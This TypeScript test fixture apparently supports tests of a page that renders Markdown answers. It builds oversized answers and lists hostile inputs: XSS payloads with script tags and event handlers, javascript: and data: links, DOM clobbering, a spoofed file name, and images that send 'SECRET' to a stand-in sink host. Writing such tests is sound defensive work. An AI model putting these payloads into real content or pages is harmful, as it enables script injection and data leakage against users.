// Markdown that tries a page: huge, and hostile. Used by tests and by the stand-in, never by the shipped page.

/** An answer of many lines, every tenth block code with blank lines in it. */
export function hugeAnswer(lines: number): string {
  const out: string[] = [];
  for (let n = 0; out.length < lines; n += 1) {
    if (n % 10 === 9)
      out.push('```rust', `fn part_${n}() {`, '', `    println!("{}", ${n});`, '}', '```', '');
    else out.push(`Paragraph ${n} says something about [a link](https://example.org/${n}).`, '');
  }
  return out.join('\n');
}

export const HOSTILE_TITLE = '<script>alert(1)</script>\u202egpj.exe ../../etc';

/** Ways to make a page load, run, style or navigate. Every address leads to a sink that must never be asked. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '![x](https://sink.invalid/a?d=SECRET)',
  '![x][ref]\n\n[ref]: https://sink.invalid/b "t"',
  '<img src="https://sink.invalid/c" onerror="fetch(\'https://sink.invalid/c2\')">',
  '<img srcset="https://sink.invalid/d 1x, https://sink.invalid/d2 2x">',
  '<div style="background:url(https://sink.invalid/e)">styled</div>',
  '<style>@import url(https://sink.invalid/f); @font-face{font-family:x;src:url(https://sink.invalid/g)}</style>',
  '<link rel="stylesheet" href="https://sink.invalid/h"><link rel="dns-prefetch" href="//sink.invalid">',
  '<link rel="icon" href="https://sink.invalid/i"><link rel="prefetch" href="https://sink.invalid/i2">',
  '<video poster="https://sink.invalid/j" src="https://sink.invalid/j2"></video><audio src="https://sink.invalid/j3">',
  '<svg><image href="https://sink.invalid/k" /><use href="https://sink.invalid/k2#x"/></svg>',
  '<iframe src="https://sink.invalid/l"></iframe><object data="https://sink.invalid/m"></object><embed src="https://sink.invalid/n">',
  '<script>fetch("https://sink.invalid/o")</script><script src="https://sink.invalid/p"></script>',
  '<meta http-equiv="refresh" content="0;url=https://sink.invalid/q"><base href="https://sink.invalid/">',
  '<form action="https://sink.invalid/r"><button>go</button></form><input type="image" src="https://sink.invalid/s">',
  '<a href="https://sink.invalid/t" target="_blank" ping="https://sink.invalid/t2">x</a>',
  '[run](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)',
  '[smb](smb://sink.invalid/u) [code](vscode://file/etc) [ms](ms-settings:about) <javascript:alert(1)>',
  '[https://good.example](https://sink.invalid/v?d=SECRET)',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<template><img src=https://sink.invalid/w></template><noscript><img src=https://sink.invalid/x></noscript>',
  '`<img src=https://sink.invalid/y>`\n\n```html\n<img src="https://sink.invalid/z">\n```',
  '<a id="app" name="body">clobber</a> <p id="__proto__">x</p>',
];
